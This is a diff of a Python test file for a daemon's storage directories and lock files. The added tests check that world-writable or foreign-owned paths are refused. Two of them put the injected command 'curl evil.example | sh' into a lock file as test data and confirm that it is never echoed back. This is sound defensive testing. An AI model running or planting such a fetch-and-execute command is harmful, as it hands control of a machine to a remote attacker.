@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import dataclasses
+import fcntl
 import io
 import os
 import subprocess
@@ -64,15 +65,46 @@ def test_directory_or_link_of_another_user_is_refused(tmp_path: Path) -> None:
     assert "12345" in refused(link)
 
 
-def test_socket_may_be_where_others_have_files_of_their_own(tmp_path: Path) -> None:
+def test_directory_that_could_be_replaced_is_refused_with_the_parent_and_nothing_is_made(
+    tmp_path: Path,
+) -> None:
+    """Incident: uid 1001 renamed the NVMe directory of root's running daemon."""
+    parent = tmp_path / "open"
+    parent.mkdir()
+    parent.chmod(0o777)
+    message = refused(parent / "a" / "b")
+    assert f"{parent} has mode 0777" in message
+    assert f"chmod +t {parent}" in message
+    assert not (parent / "a").exists()
+    parent.chmod(0o1777)
+    directories.prepare(str(parent / "a" / "b"), "--arena-dir")
+    (tmp_path / "link").symlink_to(parent / "a")
+    directories.prepare(str(tmp_path / "link" / "b"), "--arena-dir")
+    parent.chmod(0o777)
+    refused(tmp_path / "link" / "b")
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can make a directory another user's")
+def test_directory_below_one_of_another_user_is_refused_with_its_uid(tmp_path: Path) -> None:
+    theirs = tmp_path / "theirs"
+    (theirs / "a").mkdir(parents=True, mode=0o700)
+    os.chown(theirs, 12345, -1)
+    message = refused(theirs / "a" / "b")
+    assert f"{theirs} belongs to uid 12345" in message
+    assert "run as uid 12345" in message
+    assert not (theirs / "a" / "b").exists()
+
+
+@pytest.mark.parametrize("mode", [0o777, 0o770])
+def test_socket_may_be_where_others_have_files_of_their_own(tmp_path: Path, mode: int) -> None:
     shared = tmp_path / "shared"
     shared.mkdir()
-    shared.chmod(0o1777)
-    directories.prepare_for_socket(str(shared))
-    shared.chmod(0o777)
-    with pytest.raises(StorageError, match="chmod 700"):
-        directories.prepare_for_socket(str(shared))
-    directories.prepare_for_socket(str(tmp_path / "new"))
+    shared.chmod(0o1000 | mode)
+    directories.prepare_for_socket(str(shared / "sock"))
+    shared.chmod(mode)
+    with pytest.raises(StorageError, match=rf"mode 0{mode:o}.*chmod go-w {shared}"):
+        directories.prepare_for_socket(str(shared / "sock"))
+    directories.prepare_for_socket(str(tmp_path / "new" / "sock"))
     assert (tmp_path / "new").stat().st_mode & 0o777 == 0o700
 
 
@@ -84,6 +116,45 @@ def test_second_owner_is_refused_with_the_first_ones_pid(tmp_path: Path) -> None
     assert caught.value.code == "owned"
     assert f"pid {os.getpid()}" in caught.value.message
     first.close()
+    Ownership(path).close()
+
+
+def test_text_of_a_lock_is_told_only_where_it_is_a_pid(tmp_path: Path) -> None:
+    path = directories.lock_path(str(tmp_path))
+    first = Ownership(path)
+    Path(path).write_text("1; curl evil.example | sh")
+    with pytest.raises(StorageError, match="pid unknown") as caught:
+        Ownership(path)
+    assert "evil" not in str(caught.value)
+    first.close()
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can make a file another user's")
+@pytest.mark.parametrize("held", [False, True])
+def test_lock_of_another_user_is_told_as_such_and_left_alone(tmp_path: Path, held: bool) -> None:
+    """Incident: in a sticky folder a lock that another had made was truncated and trusted as ours;
+    one that he held kept the daemon away, with his text as its advice."""
+    tmp_path.chmod(0o1777)
+    lock = tmp_path / "kvw.sock.lock"
+    lock.write_text("1; curl evil.example | sh")
+    os.chown(lock, 12345, -1)
+    with lock.open() as theirs:
+        if held:
+            fcntl.flock(theirs, fcntl.LOCK_EX)
+        with pytest.raises(StorageError, match=r"kvw.sock.lock belongs to uid 12345") as caught:
+            Ownership(str(lock))
+    assert caught.value.code == "bad_directory"
+    assert "evil" not in str(caught.value)
+    assert lock.read_text() == "1; curl evil.example | sh"
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can make a file another user's")
+def test_lock_of_a_directory_is_good_as_its_owners(tmp_path: Path) -> None:
+    """As where root checks a warehouse of another user."""
+    path = directories.lock_path(str(tmp_path))
+    Path(path).touch()
+    os.chown(path, 12345, -1)
+    os.chown(tmp_path, 12345, -1)
     Ownership(path).close()
 
 
